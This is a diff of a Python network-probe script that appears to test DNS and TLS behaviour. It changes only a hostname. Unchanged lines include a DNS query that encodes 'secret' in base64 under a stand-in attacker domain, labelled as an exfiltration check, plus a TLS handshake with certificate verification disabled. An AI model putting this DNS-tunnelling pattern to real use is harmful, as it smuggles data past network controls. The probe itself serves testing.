@@ -29,7 +29,7 @@ def echo(place, data=b"hello"):
         return sock.recv(99).decode()
 
 
-def asked(kind, name="tls.example"):
+def asked(kind, name="tls.wild.example"):
     question = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         sock.settimeout(10)
@@ -41,7 +41,7 @@ def asked(kind, name="tls.example"):
 def hello(server_name):
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    with socket.create_connection(("tls.example", port + 1), timeout=10) as sock:
+    with socket.create_connection(("tls.wild.example", port + 1), timeout=10) as sock:
         return tried(context.wrap_socket, sock, False, True, True, server_name)
 
 
@@ -54,5 +54,5 @@ told["questions"] = {kind: asked(kind) for kind in (1, 16, 255, 65)}
 told["exfiltration"] = asked(16, "c2VjcmV0.attacker.example")
 told["other server name"] = hello("evil.example")
 told["no server name"] = hello(None)
-told["right server name"] = hello("tls.example")
+told["right server name"] = hello("tls.wild.example")
 sys.stdout.write(json.dumps(told))
